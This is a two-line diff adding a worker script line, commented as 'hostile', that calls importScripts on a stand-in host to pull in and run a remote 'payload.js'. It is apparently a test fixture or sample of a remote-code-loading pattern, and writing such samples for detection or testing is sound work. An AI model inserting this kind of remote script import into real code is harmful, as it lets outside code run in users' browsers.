@@ -1,0 +1,2 @@
+// hostile: importScripts, got from the worker's scope
+self.importScripts("http://example.invalid/payload.js");
